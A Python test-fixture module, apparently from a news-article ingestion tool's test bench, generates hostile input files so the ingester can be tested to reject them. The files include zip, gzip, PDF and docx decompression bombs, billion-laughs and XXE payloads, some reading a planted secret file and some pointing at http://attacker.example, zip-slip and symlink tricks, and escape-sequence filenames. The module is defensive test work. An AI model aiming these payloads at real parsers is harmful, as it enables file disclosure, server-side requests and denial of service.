"""Which files would break a reader? Bombs, lies and damage, made here when the tests run; none is stored.

``make_all`` writes them into a folder. Each has the reason a person should read in the rejects; those that hold a good
article beside the damage say its headline. SECRET stands in a file outside the folder that many of them try to read.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from bench import press_files as make
from bench.press_files import Piece

__all__ = ["BAD", "SECRET", "Bad", "make_all"]

SECRET = "xq7secretzw"


@dataclass(frozen=True)
class Bad:
    """A bad file: its bytes, a piece of the reason expected, and the headline of the good article around it, if any."""

    data: Callable[[Path], bytes]
    reason: str
    good: str = ""


def _good(name: str) -> str:
    return f"Le bon article de {name}"


def _line(headline: str) -> bytes:
    return json.dumps({"titre": headline, "texte": "Il tient debout."}).encode() + b"\n"


def _rss(head: str, body: str = "&x;") -> Callable[[Path], bytes]:
    return lambda secret: (
        f'<?xml version="1.0"?>{head.replace("SECRET", secret.as_uri())}<rss version="2.0"><channel><title>a</title><item><title>{body}</title></item></channel></rss>'.encode()
    )


def _newsml(head: str, body: str = "&x;") -> Callable[[Path], bytes]:
    inside = f'<newsItem guid="a"><contentMeta><headline>{body}</headline></contentMeta></newsItem>'
    return lambda secret: (
        f'<?xml version="1.0"?>{head.replace("SECRET", secret.as_uri())}<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">{inside}</newsMessage>'.encode()
    )


def _encoded_xxe(encoding: str) -> Callable[[Path], bytes]:
    def data(secret: Path) -> bytes:
        text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE newsMessage [<!ENTITY x SYSTEM "{secret.as_uri()}">]><newsMessage><newsItem><contentMeta><headline>&x;</headline></contentMeta></newsItem></newsMessage>'
        if encoding == "UTF-7":
            declaration, rest = text.split("?>", 1)
            return declaration.encode() + b"?>" + rest.encode("utf-7")
        return text.encode(encoding)

    return data


def _laughs(root: str) -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f"<!DOCTYPE {root} [{entities}]>"


def _zip_bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.jsonl", _line(_good("zip")))
        with archive.open("bomb.txt", "w", force_zip64=True) as member:
            for _ in range(size >> 20):
                member.write(bytes(1 << 20))
    return out.getvalue()


def _lying_zip() -> bytes:
    """A member whose announced size is small: the size is a claim, what comes out is counted."""
    data = bytearray(_zip_bomb(64 << 20))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 1_000)
    return bytes(data)


def _zip_of(name: str, data: bytes, attributes: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.jsonl", _line(_good("archive")))
        info = zipfile.ZipInfo(name)
        info.external_attr = attributes << 16
        archive.writestr(info, data)
    return out.getvalue()


def _encrypted_zip() -> bytes:
    data = bytearray(_zip_of("b.jsonl", b"\x00" * 40))
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def _nested_zip(depth: int) -> bytes:
    data = _line("Trop loin")
    for level in range(depth):
        data = make.zipped({"in.zip" if level else "in.jsonl": data})
    return data


def _tar_of(*infos: tuple[str, bytes, bytes, str]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        good = tarfile.TarInfo("a.jsonl")
        good.size = len(_line(_good("archive")))
        archive.addfile(good, io.BytesIO(_line(_good("archive"))))
        for name, kind, data, link in infos:
            info = tarfile.TarInfo(name)
            info.type, info.size, info.linkname = kind, len(data), link
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _huge_pax() -> bytes:
    info = tarfile.TarInfo("././@PaxHeader")
    info.type, info.size = tarfile.XHDTYPE, 3 << 20
    return info.tobuf(tarfile.USTAR_FORMAT) + b"9 a=b\n" * (1 << 19)


def _gzip_bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(_line(_good("gzip")))]
    parts += [packer.compress(b" " * (1 << 20)) for _ in range(megabytes)]
    return b"".join([*parts, packer.flush()])


def _warc(block: bytes, length: int | None = None, first: bool = True) -> bytes:
    good = make.warc([Piece(headline=_good("warc"))]) if first else b""
    size = len(block) if length is None else length
    head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://x.example/\r\nWARC-Date: 2024-01-01T00:00:00Z\r\nWARC-Record-ID: <urn:uuid:1>\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {size}\r\n\r\n"
    return good + head.encode() + block + b"\r\n\r\n"


_HTTP = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"


def _nested_mail(depth: int) -> bytes:
    head = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth))
    return (
        "From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + head + "Content-Type: text/plain\r\n\r\nFond"
    ).encode()


def _office(part: str, content: bytes, name: str = "word/document.xml") -> bytes:
    parts: dict[str, bytes | str] = {"[Content_Types].xml": "<Types/>", name: content}
    if part:
        parts["mimetype"] = part
    return make.zipped(parts)


def _word(head: str, body: str) -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return _office(
        "", f'<?xml version="1.0"?>{head}<w:document {space}><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>'.encode()
    )


def _pdf_bomb() -> bytes:
    stream = zlib.compress(zlib.compress(bytes(400 << 20), 9), 9)
    return make.pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
            b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(stream) + stream + b"\nendstream",
            b"<<>>",
        ]
    )


def _pdf_loop() -> bytes:
    return make.pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>", b"<<>>"])


def _csv_field() -> bytes:
    return f"titre,texte\n{_good('csv')},court\n".encode() + b"b," + b'"' + b"x" * (17 << 20) + b'"\n'


def _mets_outside(secret: Path) -> bytes:
    return make.mets_issue([Piece()])["issue-mets.xml"].replace(b"file://./alto/page-00001.xml", secret.as_uri().encode())


def _sqlite_loop() -> bytes:
    """A view that never ends, under the names that are read without a query."""
    import sqlite3
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        database = sqlite3.connect(Path(folder) / "x")
        database.execute(
            "CREATE VIEW articles AS WITH RECURSIVE n(titre, texte) AS (SELECT 'a', 'b' UNION ALL SELECT titre, texte FROM n) SELECT * FROM n WHERE titre = 'c'"
        )
        database.commit()
        database.close()
        return (Path(folder) / "x").read_bytes()


_XXE = '<!DOCTYPE x [<!ENTITY x SYSTEM "SECRET">]>'
_HTTP_XXE = '<!DOCTYPE x [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
_PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'

BAD: dict[str, Bad] = {
    # bombs of packing
    "gzip-bomb.jsonl.gz": Bad(lambda _: _gzip_bomb(600), "200 times its size", _good("gzip")),
    "gzip-of-gzip.jsonl.gz": Bad(lambda _: gzip.compress(_gzip_bomb(100)), "gzip inside gzip"),
    "gzip-cut.jsonl.gz": Bad(
        lambda _: gzip.compress(_line(_good("cut")) + b"".join(_line(os.urandom(60).hex()) for _ in range(3_000)))[:-500],
        "damaged gzip file",
        _good("cut"),
    ),
    "gzip-garbage.txt.gz": Bad(lambda _: b"\x1f\x8b" + b"garbage" * 20, "damaged gzip file"),
    "zip-bomb.zip": Bad(lambda _: _zip_bomb(300 << 20), "256 MB when unpacked", _good("zip")),
    "zip-ratio.zip": Bad(lambda _: _zip_bomb(100 << 20), "200 times its size", _good("zip")),
    "zip-lying.zip": Bad(lambda _: _lying_zip(), "damaged inside the archive", _good("zip")),
    "zip-nested.zip": Bad(lambda _: _nested_zip(4), "an archive inside an archive inside"),
    "zip-cut.zip": Bad(lambda _: _zip_of("b.jsonl", _line("b"))[:-30], "damaged ZIP file"),
    "zip-encrypted.zip": Bad(lambda _: _encrypted_zip(), "encrypted", _good("archive")),
    "zip-link.zip": Bad(lambda secret: _zip_of("b.jsonl", str(secret).encode(), 0o120777), "symbolic link", _good("archive")),
    "zip-dotdot.zip": Bad(lambda _: _zip_of("../../../../tmp/out-of-here.png", b"\x89PNG"), "an image", _good("archive")),
    "zip-names.zip": Bad(lambda _: _zip_of("a\r\nb\x1b[31m\u202egnp.png", b"\x89PNG"), "an image", _good("archive")),
    "zip-directory.zip": Bad(
        lambda _: b"PK\x03\x04" + bytes(100) + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65_534, 65_534, 0xFFFFFFF0, 0, 0),
        "list of members",
    ),
    "tar-links.tar": Bad(
        lambda secret: _tar_of(("l.jsonl", tarfile.SYMTYPE, b"", str(secret)), ("h.jsonl", tarfile.LNKTYPE, b"", str(secret))),
        "a link inside an archive",
        _good("archive"),
    ),
    "tar-device.tar": Bad(
        lambda _: _tar_of(("dev.jsonl", tarfile.CHRTYPE, b"", ""), ("fifo.jsonl", tarfile.FIFOTYPE, b"", "")),
        "not a regular file",
        _good("archive"),
    ),
    "tar-absolute.tar": Bad(lambda _: _tar_of(("/etc/passwd.png", tarfile.REGTYPE, b"\x89PNG", "")), "an image", _good("archive")),
    "tar-cut.tar": Bad(lambda _: _tar_of(("b.jsonl", tarfile.REGTYPE, _line("b") * 500, ""))[:3_000], "damaged", _good("archive")),
    "tar-names.tar": Bad(lambda _: _huge_pax(), "damaged TAR file"),
    # web archives
    "warc-bomb.warc.gz": Bad(lambda _: gzip.compress(_warc(_HTTP + b"\r\n" + b" " * (80 << 20))), "200 times its size", _good("warc")),
    "warc-cut.warc.gz": Bad(lambda _: gzip.compress(_warc(_HTTP + b"\r\n" + os.urandom(50_000)))[:-9_000], "web archive cut or damaged"),
    "warc-length.warc": Bad(lambda _: _warc(_HTTP + b"\r\n<h1>Faux</h1><p>Texte de la page.</p>", 7), "damaged web archive", _good("warc")),
    "warc-negative.warc": Bad(lambda _: _warc(b"x", -5) + b"WARC/1.0\r\ngarbage", "impossible length", _good("warc")),
    "warc-page.warc": Bad(lambda _: _warc(_HTTP + b"\r\n<html>" + b"<div>" * 500_000), "nested more than", _good("warc")),
    "warc-encoding-bomb.warc": Bad(
        lambda _: _warc(_HTTP + b"Content-Encoding: gzip\r\n\r\n" + gzip.compress(b"<p>" + b" " * (300 << 20))),
        "more than 5 MB",
        _good("warc"),
    ),
    # XML
    "laughs.xml": Bad(_rss(_laughs("rss"), "&a9;"), "declares entities"),
    "laughs-newsml.xml": Bad(_newsml(_laughs("newsMessage"), "&a9;"), "declares entities"),
    "quadratic.xml": Bad(_newsml(f'<!DOCTYPE newsMessage [<!ENTITY x "{"x" * 100_000}">]>', "&x;" * 20_000), "declares entities"),
    "xxe-file.xml": Bad(_rss(_XXE.replace("DOCTYPE x", "DOCTYPE rss")), "declares entities"),
    "xxe-newsml.xml": Bad(_newsml(_XXE.replace("DOCTYPE x", "DOCTYPE newsMessage")), "declares entities"),
    "xxe-http.xml": Bad(_newsml(_HTTP_XXE.replace("DOCTYPE x", "DOCTYPE newsMessage")), "declares entities"),
    "xxe-parameter.xml": Bad(_newsml(_PARAMETER.replace("DOCTYPE x", "DOCTYPE newsMessage")), "declares entities"),
    "xxe-utf7.xml": Bad(_encoded_xxe("UTF-7"), "declares entities"),
    "xxe-utf16.xml": Bad(_encoded_xxe("UTF-16"), "declares entities"),
    "xxe-utf32.xml": Bad(_encoded_xxe("UTF-32"), "declares entities"),
    "xxe-mets.xml": Bad(
        lambda secret: f'<!DOCTYPE mets [<!ENTITY x SYSTEM "{secret.as_uri()}">]><mets>&x;</mets>'.encode(), "declares entities"
    ),
    "xxe-alto.xml": Bad(
        lambda secret: f'<!DOCTYPE alto [<!ENTITY x SYSTEM "{secret.as_uri()}">]><alto>&x;</alto>'.encode(), "declares entities"
    ),
    "xxe-tei.xml": Bad(
        lambda secret: f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "{secret.as_uri()}">]><TEI>&x;</TEI>'.encode(), "declares entities"
    ),
    "xinclude.xml": Bad(
        lambda secret: (
            f'<TEI xmlns="http://www.tei-c.org/ns/1.0"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/></TEI>'.encode()
        ),
        "a TEI file without text",
    ),
    "mets-outside-mets.xml": Bad(_mets_outside, "does not stand beside it"),
    "deep.xml": Bad(lambda _: b"<newsMessage>" + b"<a>" * 200_000, "nested deeper than 256"),
    "deep-feed.xml": Bad(lambda _: b"<rss>" + b"<a>" * 200_000, "nested deeper than 256"),
    "attributes.xml": Bad(lambda _: b"<newsMessage " + b" ".join(b"a%d='x'" % n for n in range(300_000)) + b"/>", "no news item"),
    "cut.xml": Bad(lambda _: make.newsml_g2([Piece(headline=_good("xml")), Piece(number=2)])[:-1_200], "broken XML", _good("xml")),
    "cut-export.xml": Bad(lambda _: make.wxr([Piece(headline=_good("wxr")), Piece(number=2)])[:-900], "broken XML", _good("wxr")),
    "long-comment.xml": Bad(
        lambda secret: (
            b"<?xml version='1.0'?><newsMessage/><!--" + b"x" * (2 << 20) + f"--><!DOCTYPE x SYSTEM '{secret.as_uri()}'>".encode()
        ),
        "broken XML",
    ),
    "late-doctype.xml": Bad(
        lambda secret: (
            b"<newsMessage xmlns='a'>"
            + f"<!DOCTYPE x [<!ENTITY x SYSTEM '{secret.as_uri()}'>]>".encode()
            + b"<newsItem>&x;</newsItem></newsMessage>"
        ),
        "broken XML",
    ),
    # pages
    "divs.html": Bad(lambda _: b"<html><body>" + b"<div>" * 500_000, "nested more than"),
    "attributes.html": Bad(lambda _: b"<html><body><p " + b" ".join(b"a%d=x" % n for n in range(300_000)) + b">a</p>", "attributes"),
    "tags.html": Bad(lambda _: b"<html><body>" + b"<p>a" * 200_000, "tags"),
    "huge.html": Bad(lambda _: b"<html><body><p>" + b"a " * 3_000_000, "more than 5 MB"),
    "empty.html": Bad(lambda _: b"<html><body><!-- rien --></body></html>", "without headline and text"),
    "page-bomb.mhtml": Bad(lambda _: make.mhtml(Piece()).replace(b"<article>", b"<div>" * 3_000), "nested more than"),
    # records
    "line.jsonl": Bad(
        lambda _: _line(_good("before")) + b'{"titre": "' + b"x" * (64 << 20) + b'"}\n' + _line(_good("after")),
        "longer than 16 MB",
        _good("after"),
    ),
    "depth.json": Bad(lambda _: b'{"titre": "a", "x": ' + b"[" * 100_000, "nested deeper"),
    "duplicate.jsonl": Bad(lambda _: _line(_good("dup")) + b'{"titre": "a", "titre": "b"}\n', "given twice", _good("dup")),
    "nan.jsonl": Bad(lambda _: _line(_good("nan")) + b'{"titre": NaN}\n', "neither headline nor text", _good("nan")),
    "figures.jsonl": Bad(lambda _: _line(_good("figures")) + b'{"titre": "a", "id": ' + b"9" * 5_000 + b"}\n", "figures", _good("figures")),
    "field.csv": Bad(lambda _: _csv_field(), "longer than 16 MB", _good("csv")),
    "dump.txt": Bad(lambda _: b"mot " * 3_000_000, "more than 8 MB"),
    "empty.txt": Bad(lambda _: b" \r\n", "empty"),
    "binary.txt": Bad(lambda _: bytes(range(256)) * 300, "binary"),
    "picture.jpg": Bad(lambda _: b"\xff\xd8\xff\xe0" + bytes(100), "an image"),
    "old.doc": Bad(lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old office document"),
    # mail and office
    "nested.eml": Bad(lambda _: _nested_mail(3_000), "nested too deep"),
    "attached.eml": Bad(
        lambda _: make.eml(Piece(headline=_good("mail")), {"bomb.zip": _zip_bomb(100 << 20)}), "200 times its size", _good("mail")
    ),
    "entities.docx": Bad(lambda secret: _word(f'<!DOCTYPE x [<!ENTITY x SYSTEM "{secret.as_uri()}">]>', "&x;"), "declares entities"),
    "bomb.docx": Bad(lambda _: _word("", "a" * (140 << 20)), "unpacks to 140 MB"),
    "empty.docx": Bad(lambda _: _word("", ""), "a document without text"),
    "bomb.odt": Bad(
        lambda _: _office("application/vnd.oasis.opendocument.text", b"<a>" + b" " * (40 << 20) + b"</a>", "content.xml"),
        "unpacks to 40 MB",
    ),
    "slides.pptx": Bad(lambda _: _office("", b"<p/>", "ppt/presentation.xml"), "neither a text nor a table"),
    "other.xlsx": Bad(lambda _: _office("", b"<workbook/>", "xl/workbook.xml"), "without a row of column names"),
    # PDF and databases
    "cut.pdf": Bad(lambda _: make.pdf_article(Piece())[:300], "cut off"),
    "bomb.pdf": Bad(lambda _: _pdf_bomb(), "unpacks to too much"),
    "loop.pdf": Bad(lambda _: _pdf_loop(), "PDF"),
    "scan.pdf": Bad(lambda _: make.pdf([[]]), "a picture of a page"),
    "cut.db": Bad(lambda _: make.sqlite(make.pieces(400))[:9_000], "database cannot be read"),
    "loop.db": Bad(lambda _: _sqlite_loop(), "database cannot be read"),
    "message.7901": Bad(lambda _: b"\x01AIF0001 4 POL 0100 FRS\r\n\x02Titre\r\n   Texte coup", "may be cut", "Titre"),
}


def make_all(folder: Path) -> dict[str, Bad]:
    """Write the bad files into ``folder`` and the secret beside it; links and names that no file system tool likes as well."""
    folder.mkdir(parents=True, exist_ok=True)
    secret = folder.parent / "secret.txt"
    secret.write_text(SECRET)
    for name, bad in BAD.items():
        (folder / name).write_bytes(bad.data(secret))
    (folder / "link-out.txt").symlink_to(secret)
    (folder / "link-circle").symlink_to(folder)
    (folder / "link-self").symlink_to(folder / "link-self")
    (folder / "name\r\n\x1b[31m\u202e.txt").write_bytes(b"")
    os.mkfifo(folder / "pipe.jsonl")
    extra = Bad(lambda _: b"", "")
    return {**BAD, "link-out.txt": extra, "pipe.jsonl": extra}
